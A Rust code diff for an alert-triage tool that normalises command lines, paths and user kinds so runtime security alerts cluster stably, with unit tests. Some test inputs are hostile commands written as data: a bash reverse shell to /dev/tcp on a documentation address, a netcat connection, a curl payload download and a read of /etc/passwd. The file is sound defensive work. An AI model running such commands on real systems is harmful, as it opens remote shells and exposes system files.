@@ -8,8 +8,8 @@ use std::collections::BTreeMap;
 use quell_events::FlatEvent;
 use serde::Serialize;
 
-use crate::evidence::{role, shape, Role, DROP_DIRS};
-use crate::input::{text, Alert, Record};
+use crate::evidence::{role, shape, system_account, Role, DROP_DIRS};
+use crate::input::{int, text, Alert, Record};
 
 /// Fields that name what an alert acted on, most specific first.
 pub const TARGET_FIELDS: &[&str] = &[
@@ -20,6 +20,22 @@ pub const TARGET_FIELDS: &[&str] = &[
     "evt.arg.name",
     "evt.arg.path",
     "evt.arg.pathname",
+];
+
+/// Fields besides the lineage and the target that [`Signature::of`] reads: a sample alert
+/// carries them so that it triages into the cluster it stands for.
+pub const SIGNATURE_FIELDS: &[&str] = &[
+    "container.image.repository",
+    "container.id",
+    "k8s.ns.name",
+    "proc.exepath",
+    "proc.name",
+    "proc.pname",
+    "proc.cmdline",
+    "proc.tty",
+    "user.name",
+    "user.uid",
+    "user.loginuid",
 ];
 
 /// The stable signature of an alert.
@@ -46,7 +62,12 @@ impl Signature {
         let workload = text(ev, "container.image.repository")
             .or_else(|| text(ev, "container.id").filter(|c| c == "host"))
             .unwrap_or_else(|| "host".into());
-        let workload = mask(&workload);
+        let mut workload = mask(&workload);
+        // Another namespace is another context (a near-attack's `kubectl exec` into
+        // another team's pod): the namespace goes in when known.
+        if let Some(ns) = text(ev, "k8s.ns.name").filter(|n| !n.is_empty()) {
+            workload = format!("{workload} ns={}", mask(&ns));
+        }
         let mut exe = mask_path(
             &text(ev, "proc.exepath")
                 .or_else(|| text(ev, "proc.name"))
@@ -65,11 +86,27 @@ impl Signature {
         if let Some(p) = text(ev, "proc.pname").or_else(|| text(ev, "proc.aname[1]")) {
             lineage.push(format!("parent={}", mask(&p)));
         }
+        // Who it runs as, by kind: root, a service account by name (a role), or a person
+        // (whose name is incidental); and whether it has a terminal (a runtime's piped exec
+        // is not an interactive shell).
+        if let Some(u) = user_class(ev) {
+            lineage.push(format!("user={u}"));
+        }
+        if int(ev, "proc.tty").is_some_and(|t| t != 0) {
+            lineage.push("tty".into());
+        }
+        // Whether a person logged in behind it (a login uid, kept across sudo and su): an
+        // admin's root shell is not a service's root child.
+        match int(ev, "user.loginuid") {
+            Some(0) => lineage.push("login=root".into()),
+            Some(l) if (1..4_294_967_295).contains(&l) => lineage.push("login=person".into()),
+            _ => {}
+        }
         let target = match target(ev) {
             Some((_, t)) if t.contains("->") => mask_connection(&t),
             Some((_, t)) => mask_path(&t),
             None => text(ev, "proc.cmdline")
-                .map(|c| mask_path(&c))
+                .map(|c| mask_command(&c))
                 .unwrap_or_default(),
         };
         Signature {
@@ -137,10 +174,247 @@ pub fn script_of(cmdline: &str) -> Option<String> {
     None
 }
 
+/// The user an event runs as, by kind: `root`, a service account by its name (a role:
+/// `postgres`, `www-data`), or `person` (a login name is incidental); `None` when the
+/// event does not say.
+pub fn user_class(ev: &FlatEvent) -> Option<String> {
+    if let Some(sys) = system_account(ev) {
+        return Some(mask(&sys));
+    }
+    match (int(ev, "user.uid"), text(ev, "user.name")) {
+        (Some(0), _) => Some("root".into()),
+        (None, Some(n)) if n == "root" => Some("root".into()),
+        (None, None) => None,
+        _ => Some("person".into()),
+    }
+}
+
+/// A command line with its values normalised by kind, so that repeated runs of one
+/// behaviour read the same (`useradd -m carol` and `useradd -m dave`) while the command,
+/// its options and the classes of its targets stay: the program's name; its first
+/// argument when it is a plain word (a subcommand: `apt-get install`, `git push`);
+/// options as written (an option's `=value` by kind); paths masked ([`mask_path`]);
+/// addresses as their class (`private`, `public`, `loopback`) with the port; URLs as
+/// scheme, host and masked path; quoted strings `S`; other words (user, package, unit
+/// and group names, patterns) `W`. A shell's `-c` script is normalised command by command.
+pub fn mask_command(cmdline: &str) -> String {
+    mask_command_at(cmdline, 0)
+}
+
+/// How many `sh -c` scripts inside scripts are normalised; deeper ones are masked whole
+/// (a hostile command line must not exhaust the stack).
+const MAX_SCRIPT_DEPTH: usize = 8;
+
+fn mask_command_at(cmdline: &str, depth: usize) -> String {
+    if depth > MAX_SCRIPT_DEPTH {
+        return mask(cmdline);
+    }
+    let toks = shell_tokens(cmdline);
+    let mut out: Vec<String> = Vec::new();
+    let mut pos = 0usize;
+    let mut shell = false;
+    let mut interpreter = false;
+    let mut script_first = false;
+    let mut i = 0;
+    while i < toks.len() {
+        let t = &toks[i];
+        i += 1;
+        if is_operator(t) {
+            out.push(t.clone());
+            pos = 0;
+            shell = false;
+            continue;
+        }
+        if pos == 0 {
+            let name = t.rsplit('/').next().unwrap_or(t);
+            shell = role(name) == Role::Shell;
+            interpreter = role(name) == Role::Interpreter;
+            out.push(mask(name));
+            pos = 1;
+            continue;
+        }
+        // A shell's script: the rest of the line (or one quoted word) is commands.
+        if shell && t == "-c" {
+            out.push("-c".into());
+            let rest: Vec<String> = toks[i..].to_vec();
+            let script = match rest.as_slice() {
+                [one] if is_quoted(one) => one[1..one.len() - 1].to_string(),
+                _ => rest.join(" "),
+            };
+            out.push(mask_command_at(&script, depth + 1));
+            break;
+        }
+        // An interpreter's script takes the first place: its subcommand comes after it
+        // (`python3 /usr/bin/pip install x`).
+        let first = pos == 1 || (pos == 2 && script_first);
+        if pos == 1 {
+            script_first = interpreter && t.contains('/');
+        }
+        out.push(mask_arg(t, first));
+        pos += 1;
+    }
+    out.join(" ")
+}
+
+/// One argument of a command, by kind (see [`mask_command`]).
+fn mask_arg(t: &str, first: bool) -> String {
+    if is_quoted(t) {
+        return "S".into();
+    }
+    if let Some(opt) = t.strip_prefix('-') {
+        return match opt.split_once('=') {
+            Some((k, v)) => format!("-{}={}", mask(k), mask_arg(v, false)),
+            None => format!("-{}", mask(opt)),
+        };
+    }
+    // Redirections: `>/dev/null`, `2>&1`, `</dev/tcp/host/port`.
+    if let Some(p) = t.find(['<', '>']) {
+        let (op, rest) = t.split_at(p + 1);
+        return format!("{}{}", mask(op), mask_path(rest));
+    }
+    if let Some((scheme, rest)) = t.split_once("://") {
+        let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
+        let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
+        let path = if path.is_empty() {
+            String::new()
+        } else {
+            mask_path(&format!("/{path}"))
+        };
+        return format!("{}://{}{path}", mask(scheme), host_class(host));
+    }
+    // `user@host:path` (scp, rsync, ssh) and `host:path`.
+    if let Some((who, rest)) = t.split_once('@') {
+        let (host, path) = rest.split_once(':').unwrap_or((rest, ""));
+        let path = if path.is_empty() {
+            String::new()
+        } else {
+            format!(":{}", mask_path(path))
+        };
+        let who = if who.is_empty() { "" } else { "W" };
+        return format!("{who}@{}{path}", host_class(host));
+    }
+    if ip_class(t.rsplit_once(':').map_or(t, |(h, _)| h)).is_some() {
+        return host_class(t);
+    }
+    if t.contains('/') {
+        return mask_path(t);
+    }
+    let plain = !t.is_empty()
+        && t.chars()
+            .all(|c| c.is_ascii_lowercase() || c == '-' || c == '_')
+        && t.chars().next().is_some_and(|c| c.is_ascii_lowercase());
+    if first && plain {
+        return t.to_string();
+    }
+    if t.chars().any(|c| c.is_alphanumeric()) {
+        "W".into()
+    } else {
+        t.to_string()
+    }
+}
+
+/// A host (with an optional `:port`) as its address class and port; a name is kept
+/// masked (a server's name is what it is).
+fn host_class(h: &str) -> String {
+    let (host, port) = match h.rsplit_once(':') {
+        Some((a, p)) if !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()) => (a, Some(p)),
+        _ => (h, None),
+    };
+    let host = host.trim_matches(|c| c == '[' || c == ']');
+    let class = ip_class(host).map_or_else(|| mask(host), str::to_string);
+    match port {
+        Some(p) => format!("{class}:{p}"),
+        None => class,
+    }
+}
+
+/// The class of an IP address: `loopback`, `private` or `public`; `None` for a name.
+fn ip_class(host: &str) -> Option<&'static str> {
+    let host = host.trim_matches(|c| c == '[' || c == ']');
+    Some(match host.parse::<std::net::IpAddr>().ok()? {
+        ip if ip.is_loopback() => "loopback",
+        std::net::IpAddr::V4(v) if v.is_private() || v.is_link_local() => "private",
+        std::net::IpAddr::V6(v) if (v.segments()[0] & 0xfe00) == 0xfc00 => "private",
+        _ => "public",
+    })
+}
+
+fn is_quoted(t: &str) -> bool {
+    t.len() >= 2
+        && ((t.starts_with('\'') && t.ends_with('\'')) || (t.starts_with('"') && t.ends_with('"')))
+}
+
+fn is_operator(t: &str) -> bool {
+    matches!(t, ";" | "|" | "||" | "&&" | "&")
+}
+
+/// Splits a command line into words, keeping quoted strings whole (quotes included) and
+/// making `;`, `|`, `||`, `&&` and a lone `&` words of their own.
+fn shell_tokens(s: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut quote: Option<char> = None;
+    let mut chars = s.chars().peekable();
+    let flush = |cur: &mut String, out: &mut Vec<String>| {
+        if !cur.is_empty() {
+            out.push(std::mem::take(cur));
+        }
+    };
+    while let Some(c) = chars.next() {
+        if let Some(q) = quote {
+            cur.push(c);
+            if c == q {
+                quote = None;
+            }
+            continue;
+        }
+        match c {
+            '\'' | '"' if cur.is_empty() => {
+                quote = Some(c);
+                cur.push(c);
+            }
+            c if c.is_whitespace() => flush(&mut cur, &mut out),
+            ';' => {
+                flush(&mut cur, &mut out);
+                out.push(";".into());
+            }
+            '|' | '&' => {
+                // `2>&1` and `&>` stay in their word.
+                if c == '&' && (cur.ends_with('>') || chars.peek() == Some(&'>')) {
+                    cur.push(c);
+                    continue;
+                }
+                flush(&mut cur, &mut out);
+                let mut op = c.to_string();
+                if chars.peek() == Some(&c) {
+                    chars.next();
+                    op.push(c);
+                }
+                out.push(op);
+            }
+            _ => cur.push(c),
+        }
+    }
+    flush(&mut cur, &mut out);
+    out
+}
+
 /// Masks a path or command line like [`mask`], and also the name of a directory made
 /// directly in a temporary directory (`/tmp/tmpk3j_2x8q/`, `/tmp/go-build123/`): `T`.
+///
+/// A user's home directory is `/home/U/` (the name is incidental; `/root/` stays), and in
+/// the file's own name digit runs and hashes after a separator are dropped (dates,
+/// sequence and segment numbers: `lynis-20261205.log` → `lynis.log`) except a rotation
+/// number at the end, which stays `.N` whatever its compression (`dpkg.log.1` and
+/// `dpkg.log.2.gz` → `dpkg.log.N`).
 pub fn mask_path(s: &str) -> String {
     let mut out = mask(s);
+    out = mask_home(&out);
+    if !out.contains(' ') {
+        let cut = out.rfind('/').map_or(0, |i| i + 1);
+        let base = mask_basename(&out[cut..]);
+        out.replace_range(cut.., &base);
+    }
     for d in DROP_DIRS.iter().filter(|d| d.ends_with('/')) {
         let mut from = 0;
         while let Some(pos) = out[from..].find(d) {
@@ -166,6 +440,72 @@ pub fn mask_path(s: &str) -> String {
         }
     }
     out
+}
+
+/// `/home/NAME/` → `/home/U/` wherever it appears.
+fn mask_home(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    let mut rest = s;
+    while let Some(p) = rest.find("/home/") {
+        let (head, tail) = rest.split_at(p + "/home/".len());
+        out.push_str(head);
+        let end = tail
+            .find(|c: char| c == '/' || c.is_whitespace())
+            .unwrap_or(tail.len());
+        if end > 0 {
+            out.push('U');
+        }
+        rest = &tail[end..];
+    }
+    out.push_str(rest);
+    out
+}
+
+const COMPRESSED: &[&str] = &["gz", "bz2", "xz", "zst", "Z", "lz4"];
+
+/// A masked file name with its incidental numbers dropped (see [`mask_path`]).
+fn mask_basename(base: &str) -> String {
+    // Words and the separators before them: `dpkg` `.log` `.N` `.gz`.
+    let mut parts: Vec<(Option<char>, &str)> = Vec::new();
+    let mut start = 0;
+    let mut sep = None;
+    for (i, c) in base.char_indices() {
+        if matches!(c, '.' | '-' | '_') {
+            parts.push((sep, &base[start..i]));
+            sep = Some(c);
+            start = i + 1;
+        }
+    }
+    parts.push((sep, &base[start..]));
+    let numeric = |w: &str| w == "N" || w == "H";
+    // `.N.gz` at the end: the rotation number, whatever the compression.
+    if parts.len() >= 3 {
+        let n = parts.len();
+        if parts[n - 1].0 == Some('.')
+            && COMPRESSED.contains(&parts[n - 1].1)
+            && parts[n - 2].0 == Some('.')
+            && numeric(parts[n - 2].1)
+        {
+            parts.pop();
+        }
+    }
+    let n = parts.len();
+    let mut out = String::with_capacity(base.len());
+    for (i, (sep, w)) in parts.iter().enumerate() {
+        let rotation = i == n - 1 && *sep == Some('.') && numeric(w);
+        if i > 0 && numeric(w) && !rotation {
+            continue;
+        }
+        if let Some(c) = sep {
+            out.push(*c);
+        }
+        out.push_str(if rotation { "N" } else { w });
+    }
+    if out.is_empty() {
+        base.to_string()
+    } else {
+        out
+    }
 }
 
 /// Masks a connection (`client:port->server:port`): the client side and the server's
@@ -210,19 +550,28 @@ pub fn mask(s: &str) -> String {
 fn mask_token(t: &str) -> String {
     let digits = t.chars().filter(char::is_ascii_digit).count();
     let letters = t.len() - digits;
+    // A long run of digits is an id like a hash (a WAL segment, a timestamp, a date).
     if digits == t.len() {
-        return "N".into();
+        return if t.len() >= 8 { "H" } else { "N" }.into();
     }
     if t.len() >= 8 && digits > 0 && t.chars().all(|c| c.is_ascii_hexdigit()) {
         return "H".into();
     }
+    // Letters then a digit suffix (`tty3`, `worker12`, `python3`): keep the stem.
+    let stem = t.trim_end_matches(|c: char| c.is_ascii_digit());
+    if stem.len() < t.len() && stem.chars().all(|c| c.is_ascii_alphabetic()) {
+        return format!("{stem}N");
+    }
     if t.len() >= 6 && digits > 0 && letters > 0 {
         return "X".into();
     }
-    // Letters then a digit suffix (`tty3`, `worker12`): keep the stem.
-    let stem = t.trim_end_matches(|c: char| c.is_ascii_digit());
-    if stem.len() < t.len() {
-        return format!("{stem}N");
+    // A generated suffix (a pod's `x2x9k`): five lower-case letters and digits mixed.
+    if t.len() == 5
+        && digits > 0
+        && t.chars()
+            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
+    {
+        return "X".into();
     }
     t.to_string()
 }
@@ -302,11 +651,198 @@ mod tests {
         let cl = cluster(&alerts, &recs);
         assert_eq!(cl.len(), 3);
         assert_eq!(cl[0].members, vec![0, 1]);
-        assert_eq!(cl[0].signature.target, "/var/log/app.N.log");
+        assert_eq!(cl[0].signature.target, "/var/log/app.log");
         assert_ne!(cl[0].id, cl[1].id);
         assert_ne!(cl[0].id, cl[2].id);
         // Stable across runs: the id depends only on the signature.
         assert_eq!(cl[0].id, Signature::of("R", &recs[1].event).id());
         assert_eq!(cl[0].id.len(), 12);
+    }
+
+    fn sig(json: &str) -> Signature {
+        let recs = parse_records(json, "t").unwrap();
+        Signature::of("R", &recs[0].event)
+    }
+
+    /// Names given as arguments are incidental; the command, its options and its
+    /// subcommand are not.
+    #[test]
+    fn command_values_are_normalised_by_kind() {
+        let m = mask_command;
+        assert_eq!(
+            m("useradd -m -s /bin/bash -u 1003 -c Carol Ops carol"),
+            m("useradd -m -s /bin/bash -u 1004 -c Dave Ops dave")
+        );
+        assert_eq!(m("usermod -a -G docker carol"), "usermod -a -G W W");
+        assert_eq!(m("apt-get install -y procps"), "apt-get install -y W");
+        assert_eq!(m("apt-get install -y htop"), m("apt-get install -y procps"));
+        // The subcommand stays: installing is not removing.
+        assert_ne!(
+            m("apt-get remove -y procps"),
+            m("apt-get install -y procps")
+        );
+        assert_ne!(m("userdel carol"), m("useradd carol"));
+        // An interpreter's script, then its subcommand.
+        assert_eq!(
+            m("python3 /usr/bin/pip install polars==1.2.0"),
+            "pythonN /usr/bin/pip install W"
+        );
+        // Options stay.
+        assert_ne!(m("grep -rlI x src/"), m("grep -i x src/"));
+        // Addresses by class and port; URLs by scheme, host class and masked path.
+        assert_eq!(m("nc 203.0.113.9 4444"), "nc public W");
+        assert_eq!(
+            m("rsync -a /data/ backup@10.0.0.5:/srv/backup/"),
+            "rsync -a /data/ W@private:/srv/backup/"
+        );
+        assert_ne!(
+            m("rsync -a /data/ backup@10.0.0.5:/srv/"),
+            m("rsync -a /data/ x@203.0.113.5:/srv/")
+        );
+        assert_eq!(
+            m("curl -o /tmp/p http://203.0.113.1/p"),
+            "curl -o /tmp/p http://public/p"
+        );
+        assert_ne!(
+            m("curl http://127.0.0.1:8080/health"),
+            m("curl http://203.0.113.1:8080/health")
+        );
+        // A shell's script, command by command; quoted strings are data.
+        assert_eq!(
+            m("sh -c printf 'To: alice@example.test\\n' | /opt/bin/sendmail -t -i"),
+            m("sh -c printf 'To: bob@example.test\\nOrder 7\\n' | /opt/bin/sendmail -t -i")
+        );
+        assert_eq!(
+            m("sh -c 'cat /etc/passwd; id'"),
+            "sh -c cat /etc/passwd ; id"
+        );
+        assert_ne!(
+            m("sh -c sendmail -t; cat /etc/passwd"),
+            m("sh -c sendmail -t")
+        );
+        // Redirections keep their target class.
+        assert_eq!(
+            m("bash -i >/dev/tcp/203.0.113.9/4444 0>&1"),
+            "bash -i >/dev/tcp/N.N.N.N/N N>&N"
+        );
+        // Scripts within scripts, however deep: no stack exhaustion.
+        let deep = "sh -c ".repeat(200_000) + "id";
+        assert!(m(&deep).ends_with("-c sh -c sh -c id"));
+        // Hostile input: no panic, control characters kept as data.
+        for s in [
+            "",
+            "'",
+            "\"unterminated",
+            "a | | ;; && &",
+            "x -=",
+            "\u{1b}[31m",
+            "@",
+            "://",
+            "a@:",
+        ] {
+            let _ = m(s);
+        }
+    }
+
+    #[test]
+    fn paths_drop_incidental_numbers_and_user_names() {
+        // Rotation numbers, whatever the compression.
+        assert_eq!(mask_path("/var/log/dpkg.log.1"), "/var/log/dpkg.log.N");
+        assert_eq!(mask_path("/var/log/dpkg.log.2.gz"), "/var/log/dpkg.log.N");
+        assert_ne!(
+            mask_path("/var/log/dpkg.log.1"),
+            mask_path("/var/log/dpkg.log")
+        );
+        // Dates and sequence numbers in a name.
+        assert_eq!(
+            mask_path("/var/log/lynis-20261205.log"),
+            "/var/log/lynis.log"
+        );
+        assert_eq!(mask_path("/var/log/app-2026-12-05.log"), "/var/log/app.log");
+        assert_eq!(
+            mask_path("/srv/uploads/img_1700_3.jpg"),
+            mask_path("/srv/uploads/img_1812_14.jpg")
+        );
+        // Segment names: all digits or hex.
+        assert_eq!(
+            mask_path("/mnt/archive/000000010000000000000002"),
+            mask_path("/mnt/archive/0000000100000000000000A1")
+        );
+        // Home directories: the user's name is incidental, root's is not a user's.
+        assert_eq!(
+            mask_path("/home/alice/.bash_history"),
+            mask_path("/home/bob/.bash_history")
+        );
+        assert_ne!(
+            mask_path("/root/.bash_history"),
+            mask_path("/home/bob/.bash_history")
+        );
+        // Different files stay different: a package log is not the auth log.
+        assert_ne!(
+            mask_path("/var/log/dpkg.log"),
+            mask_path("/var/log/auth.log")
+        );
+        assert_ne!(mask_path("/var/log/syslog"), mask_path("/var/log/syslog.1"));
+        // Temp directories and pod suffixes.
+        assert_eq!(
+            mask_path("/tmp/go-build2291/b001/exe/main"),
+            "/tmp/T/bN/exe/main"
+        );
+        assert_eq!(mask("web-7d9f8c6b5-x2x9k"), mask("web-5c4d7f9b8-qq2rt"));
+        assert_eq!(mask("python3.11"), "pythonN.N");
+        assert_eq!(mask_path("/"), "/");
+        assert_eq!(mask_path("/home/"), "/home/");
+        assert_eq!(mask_path("a.N.gz"), "a.N");
+    }
+
+    /// One behaviour is one cluster across runs; the actor's kind, the namespace and the
+    /// terminal are part of the behaviour.
+    #[test]
+    fn signature_keeps_user_kind_terminal_and_namespace() {
+        let a = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/sbin/useradd","proc.name":"useradd","proc.pname":"sh","proc.cmdline":"useradd -m carol","user.name":"root","user.uid":0}}"#,
+        );
+        let b = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/sbin/useradd","proc.name":"useradd","proc.pname":"sh","proc.cmdline":"useradd -m dave","user.name":"root","user.uid":0}}"#,
+        );
+        assert_eq!(a, b);
+        let www = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/sbin/useradd","proc.name":"useradd","proc.pname":"sh","proc.cmdline":"useradd -m dave","user.name":"www-data","user.uid":33}}"#,
+        );
+        assert_ne!(a, www);
+        assert!(
+            www.lineage.contains(&"user=www-data".to_string()),
+            "{www:?}"
+        );
+        let alice = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"alice","user.uid":1000}}"#,
+        );
+        let bob = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"bob","user.uid":1001}}"#,
+        );
+        assert_eq!(alice, bob);
+        let tty = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"bob","user.uid":1001,"proc.tty":34816}}"#,
+        );
+        assert_ne!(tty, bob);
+        let ns1 = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/bin/sh","proc.name":"sh","container.image.repository":"nginx","k8s.ns.name":"shop"}}"#,
+        );
+        let ns2 = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/bin/sh","proc.name":"sh","container.image.repository":"nginx","k8s.ns.name":"payments"}}"#,
+        );
+        assert_ne!(ns1, ns2);
+        // A person logged in behind a root shell is not a service's root child.
+        let admin = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"root","user.uid":0,"user.loginuid":1000}}"#,
+        );
+        let svc = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"root","user.uid":0,"user.loginuid":-1}}"#,
+        );
+        let bare = sig(
+            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"root","user.uid":0}}"#,
+        );
+        assert_ne!(admin, svc);
+        assert_eq!(svc, bare);
     }
 }
